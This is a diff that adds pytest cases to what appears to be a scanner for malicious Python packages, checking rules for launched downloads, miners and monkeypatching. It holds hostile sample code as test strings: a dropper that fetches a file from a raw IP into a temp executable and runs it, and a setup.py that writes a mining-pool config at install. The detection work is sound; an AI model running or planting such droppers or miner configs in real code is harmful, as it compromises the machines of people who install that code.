@@ -165,3 +165,53 @@ def test_start_command_on_a_download() -> None:
     assert "PV-BEH-LAUNCH" in ids(run(R, bad))
     benign = py("import os\ndef open_docs():\n    os.system('start https://docs.example/')\n")
     assert run(R, benign) == []
+
+
+def test_dropper_from_a_raw_ip_is_critical() -> None:
+    bad = py(
+        "import os, requests\n"
+        "def fetch():\n"
+        "    exe = os.getenv('TEMP') + '\\\\svc.exe'\n"
+        "    open(exe, 'wb').write(requests.get('http://45.13.7.9/all.txt').content)\n"
+        "    os.system(f'start /B {exe}')\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-BEH-LAUNCH"]
+    assert found
+    assert found[0].severity is Severity.CRITICAL
+
+
+def test_miner_config_written_by_setup() -> None:
+    bad = py(
+        'open(\'/tmp/config.json\', \'w\').write(\'{"cpu": true, "pools": [{"url": "pool.example:3333", '
+        '"nicehash": true}]}\')\n',
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    assert "PV-BEH-MINER" in ids(run(R, bad))
+    benign = py("POOLS = {'pools': 4}\nconfig = {'max_pool_size': 10}\n")
+    assert run(R, benign) == []
+
+
+def test_memfd_for_certificates_is_not_fileless_execution() -> None:
+    benign = py(
+        "import os, subprocess\n"
+        "# write the bytes to anonymous in-memory files using memfd_create; yields /proc/self/fd/... paths\n"
+        "def paths(cert):\n"
+        "    fd = os.memfd_create('cert', os.MFD_CLOEXEC)\n"
+        "    os.write(fd, cert)\n"
+        "    return f'/proc/self/fd/{fd}'\n"
+        "def provider(cmd):\n"
+        "    return subprocess.run(cmd, capture_output=True)\n"
+    )
+    assert run(R, benign) == []
+
+
+def test_configuring_a_local_app_object_is_not_patching() -> None:
+    benign = py(
+        "from fastapi import FastAPI\n"
+        "app = FastAPI()\n"
+        "def custom_openapi():\n"
+        "    return {}\n"
+        "app.openapi = custom_openapi\n"
+    )
+    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, benign))
